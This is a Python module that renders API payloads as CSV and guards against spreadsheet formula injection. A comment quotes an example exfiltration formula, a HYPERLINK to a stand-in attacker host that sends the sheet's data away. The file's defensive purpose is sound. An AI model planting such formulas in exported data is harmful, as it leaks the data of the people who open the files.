"""CSV for every list and report: `?format=csv` or `Accept: text/csv`.

Nested values are flattened so a spreadsheet can read them: an object becomes dotted columns
(`rate.estimate`), a list becomes one cell joined with "; " (`api-gateway:origin; db:impacted`).
Lists stream (see `api.exports`); this renderer serves the small, already computed payloads
(reports, a single page). Both write through `csv_writer`, so every cell is made safe to open
in a spreadsheet in one place (`csv_cell`).
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from rest_framework.renderers import BaseRenderer


def _cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict):
        return ":".join(str(_cell(item)) for item in value.values())
    if isinstance(value, list | tuple):
        return "; ".join(str(_cell(item)) for item in value)
    return value


def flatten(row: dict[str, Any], prefix: str = "") -> dict[str, Any]:
    """{"a": {"b": 1}, "c": [1, 2]} -> {"a.b": 1, "c": "1; 2"}."""
    flat: dict[str, Any] = {}
    for key, value in row.items():
        name = f"{prefix}{key}"
        if isinstance(value, dict):
            flat.update(flatten(value, f"{name}."))
        else:
            flat[name] = _cell(value)
    return flat


# A cell starting with one of these is run as a formula by Excel, LibreOffice or Google Sheets
# (OWASP "CSV Injection": = + - @ tab CR; ASVS 1.2.10 adds NUL): a title like
# =HYPERLINK("https://evil.example/?"&A1) would send the sheet's data away when clicked.
FORMULA_STARTS = frozenset("=+-@\t\r\0")
_SIGNED_NUMBER = re.compile(r"[+-]\d+(\.\d+)?")


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: text that would start a formula gets a leading single quote,
    which spreadsheets show as text instead of running it (OWASP's recommendation; the csv
    module then quotes the cell as needed).

    Decided for numbers: a signed number written as text ("-5", "+3.25") is left as it is: it
    cannot run, and a spreadsheet should read it as the number it is. Numbers (counts, rates,
    intervals) are never text here, so they are never touched either. The quote is visible to
    a program reading the file: it is part of the cell, as OWASP accepts.
    """
    if (
        isinstance(value, str)
        and value[:1] in FORMULA_STARTS
        and not _SIGNED_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, file):
        self._writerow = csv.writer(file).writerow

    def writerow(self, row) -> Any:
        return self._writerow([csv_cell(value) for value in row])


def csv_writer(file) -> _SafeWriter:
    """csv.writer whose every cell goes through `csv_cell`: the one writer of every CSV."""
    return _SafeWriter(file)


class Echo:
    """A file-like object whose write() hands the line back, for csv.writer in a generator."""

    def write(self, value: str) -> str:
        return value


def rows_of(data: Any) -> list[dict[str, Any]]:
    """The rows a payload holds: a page's results, a report's rows, a list, or one object."""
    if isinstance(data, dict):
        for key in ("results", "rows"):
            if isinstance(data.get(key), list):
                return [item if isinstance(item, dict) else {"value": item} for item in data[key]]
        return [data]
    if isinstance(data, list):
        return [item if isinstance(item, dict) else {"value": item} for item in data]
    return [{"value": data}]


def render_csv(data: Any) -> str:
    """The header always comes first: the payload's `columns` when it gives them (a report
    knows its columns even when it has no row), else every key met, in the order met."""
    flat = [flatten(row) for row in rows_of(data)]
    columns = data.get("columns") if isinstance(data, dict) else None
    header: list[str] = list(columns or [])
    if not columns:
        for row in flat:
            header.extend(key for key in row if key not in header)
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(header)
    for row in flat:
        writer.writerow([row.get(column, "") for column in header])
    return out.getvalue()


class CSVRenderer(BaseRenderer):
    media_type = "text/csv"
    format = "csv"
    charset = "utf-8"

    def render(self, data, accepted_media_type=None, renderer_context=None):
        return render_csv(data).encode(self.charset)
